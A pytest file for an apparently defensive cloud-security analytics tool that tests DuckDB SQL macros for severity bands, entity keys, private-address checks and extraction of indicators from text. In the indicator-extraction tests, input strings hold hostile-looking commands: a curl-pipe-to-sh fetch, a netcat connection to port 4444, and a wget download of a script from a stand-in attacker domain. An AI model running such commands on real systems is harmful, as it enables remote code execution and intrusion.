"""Rules that are macros: what each says, and that Python says the same where it has the rule too."""

import hashlib
from collections.abc import Iterator

import duckdb
import pytest

from tracehound.sql import build
from tracehound.transforms.severity import BANDS, SEVERE, band_of


@pytest.fixture(scope="module")
def con() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect() as opened:
        for macro in build.MACROS:
            opened.execute(macro)
        yield opened


def says(con: duckdb.DuckDBPyConnection, expression: str, *values: object) -> object:
    return con.execute(f"SELECT {expression}", list(values)).fetchall()[0][0]


@pytest.mark.parametrize(
    "score", [0.0, 0.9, *(lowest + way for _, lowest in BANDS for way in (-0.1, 0, 0.1)), 10.0]
)
def test_a_score_has_one_band_in_sql_and_python(con: duckdb.DuckDBPyConnection, score: float) -> None:
    assert says(con, "severity_band(?)", score) == band_of(score)


def test_no_score_has_no_band(con: duckdb.DuckDBPyConnection) -> None:
    assert says(con, "severity_band(NULL)") is None
    assert says(con, "is_severe(NULL)") is None


def test_the_same_bands_are_severe_in_sql_and_python(con: duckdb.DuckDBPyConnection) -> None:
    assert tuple(band for band, _ in BANDS if says(con, "is_severe(?)", band)) == SEVERE


@pytest.mark.parametrize(
    "path",
    [
        "/tmp/x", "/var/tmp/x", "/dev/shm/x", "/run/x", "/var/run/x", "/home/a/x", "/root/x", "/proc/1/fd/3", "/mnt/x",
        "/usr/lib/.x", "memfd:x", "/usr/bin/x (deleted)",
    ],
)  # fmt: skip
def test_a_program_is_brought_where_everybody_may_write(con: duckdb.DuckDBPyConnection, path: str) -> None:
    assert says(con, "is_brought(?)", path) is True


@pytest.mark.parametrize("path", [None, "", "/usr/bin/x", "/opt/tmp/x", "/app/dev/x", "/srv/x.sh"])
def test_any_other_program_was_installed(con: duckdb.DuckDBPyConnection, path: str | None) -> None:
    assert says(con, "is_brought(?)", path) is False


def test_package_managers_are_known_by_name(con: duckdb.DuckDBPyConnection) -> None:
    assert says(con, "is_package_manager('dpkg') AND is_package_manager('yarn')") is True
    assert says(con, "is_package_manager('bash')") is False


def test_of_sightings_that_differ_the_latest_counts(con: duckdb.DuckDBPyConnection) -> None:
    sightings = "(VALUES ('a', 1), ('b', 2), ('c', 2), (NULL, 3)) AS sightings (value, seen)"
    assert says(con, f"latest(value, seen) FROM {sightings}") == "c"


@pytest.mark.parametrize(
    ("key", "expected"),
    [
        ("place_key('1', 'r', 'c')", "1/r/c"),
        ("place_key(NULL, NULL, 'c')", "//c"),
        ("place_key('1', 'r', '')", None),
        ("arn_key('arn:k', '1', 'r')", "arn:k"),
        ("arn_key('main', '1', 'r')", "1/r/main"),
        ("arn_key('', '1', 'r')", None),
        ("arn_key(NULL, '1', 'r')", None),
        ("sequence_key('S3_BUCKET', 'logs', '1', 'r')", "logs"),
        ("sequence_key('ECS_TASK', 't1', '1', 'r')", "1/r/t1"),
        ("workload_key('main', '1', 'r', 'pay', 'pods', 'web')", "1/r/main/pay/pods/web"),
        ("namespace_key('arn:k', '1', 'r', 'pay')", "arn:k/pay"),
        ("namespace_key('arn:k', '1', 'r', '')", None),
        ("workload_key('arn:k', '1', 'r', NULL, 'pods', 'web')", "arn:k//pods/web"),
        ("workload_key(NULL, '1', 'r', 'pay', NULL, 'web')", "1/r/pay/web"),
        ("workload_key('arn:k', '1', 'r', 'pay', 'pods', '')", None),
        ("kubernetes_user_key(NULL, '1', 'r', 'bob')", "1/r/bob"),
        ("principal_key('AROA:session', '1', 'AssumedRole', 'role')", "AROA"),
        ("principal_key('', '1', 'Root', NULL)", None),
        ("principal_key(NULL, '1', 'IAMUser', 'bob')", "1/IAMUser/bob"),
        ("principal_key(':session', '1', 'AssumedRole', '')", "1/AssumedRole"),
        ("role_session_key('AROA:session', 'session')", "AROA:session"),
        ("role_session_key('AROA', NULL)", None),
        ("bucket_key('', 'logs')", "logs"),
        ("bucket_key('arn:logs', 'logs')", "arn:logs"),
        ("aws_operation_key('s3.amazonaws.com', 'GetObject')", "s3.amazonaws.com/GetObject"),
        ("aws_operation_key('', 'GetObject')", "GetObject"),
        ("aws_operation_key('s3.amazonaws.com', '')", None),
        ("kubernetes_operation_key('create', 'pods', '')", "kubernetes/create/pods"),
        ("kubernetes_operation_key('', 'pods', 'exec')", None),
        ("address_key('2001:DB8::1')", "2001:db8::1"),
        ("hash_key('AB')", "ab"),
        ("domain_key('X.example.')", "x.example"),
        ("sequence_kind('ECS_TASK')", "ecs_task"),
        ("sequence_kind('ACCESS_KEY')", None),
    ],
)
def test_entities_have_one_key_however_they_are_named(
    con: duckdb.DuckDBPyConnection, key: str, expected: str | None
) -> None:
    assert says(con, key) == expected


def test_numbers_are_made_from_the_text_alone(con: duckdb.DuckDBPyConnection) -> None:
    digest = hashlib.md5(b"ip_address/203.0.113.7", usedforsecurity=False).hexdigest()
    assert says(con, "entity_id('ip_address', '203.0.113.7')") == int(digest[:15], 16)
    assert says(con, "finding_number('ip_address/203.0.113.7')") == int(digest[:15], 16)


@pytest.mark.parametrize(
    "address",
    [
        "10.1.2.3",
        "100.64.0.1",
        "172.31.0.1",
        "169.254.169.254",
        "::",
        "::1",
        "fd00::1",
        "fe80::1",
    ],
)
def test_an_address_of_every_network_belongs_to_none(con: duckdb.DuckDBPyConnection, address: str) -> None:
    assert says(con, "is_private_address(?)", address) is True


@pytest.mark.parametrize("address", ["9.9.9.9", "100.128.0.1", "172.32.0.1", "2001:db8::1", "no address", ""])
def test_any_other_address_may_be_on_the_internet(con: duckdb.DuckDBPyConnection, address: str) -> None:
    assert says(con, "is_private_address(?)", address) is False


@pytest.mark.parametrize(
    ("function", "text", "expected"),
    [
        (
            "addresses_in",
            "curl http://203.0.113.7/x | sh; nc 198.51.100.9 4444",
            ["203.0.113.7", "198.51.100.9"],
        ),
        # Private, everybody's, too long and too large: none is somebody's.
        ("addresses_in", "10.0.0.1 169.254.169.254 8.8.8.8 1.2.3.4.5 203.0.113.700", []),
        (
            "domains_in",
            "wget -q https://Evil.Example:8443/a.sh http://u@b.example/",
            ["evil.example", "b.example"],
        ),
        ("domains_in", "sh install.sh; cat /etc/hosts; http://203.0.113.7/", []),
        ("access_keys_in", "aws_access_key_id=AKIAIOSFODNN7EXAMPLE", ["AKIAIOSFODNN7EXAMPLE"]),
        ("instances_in", "aws ssm start-session --target i-0123456789abcdef0", ["i-0123456789abcdef0"]),
        ("instances_in", "i-0123456789abcdef01 xi-0123456789abcdef0", []),
    ],
)
def test_a_text_names_addresses_domains_keys_and_instances(
    con: duckdb.DuckDBPyConnection, function: str, text: str, expected: list[str]
) -> None:
    assert says(con, f"{function}($1)", text) == expected


@pytest.mark.parametrize(
    ("name", "last"),
    [
        ("arn:aws:s3:::bucket/a/b", "b"),
        ("arn:aws:lambda:eu-west-1:1:function:f", "f"),
        ("a/b:c", "c"),
        ("a:b/c", "c"),
        ("plain", "plain"),
        ("a/", ""),
        ("", ""),
        (None, None),
    ],
)
def test_the_last_part_of_a_name(con: duckdb.DuckDBPyConnection, name: str | None, last: str | None) -> None:
    assert says(con, "last_part(?::VARCHAR)", name) == last


def test_seconds_of_a_span_are_whole(con: duckdb.DuckDBPyConnection) -> None:
    assert says(con, "seconds_in(INTERVAL 3 HOUR)") == 10_800
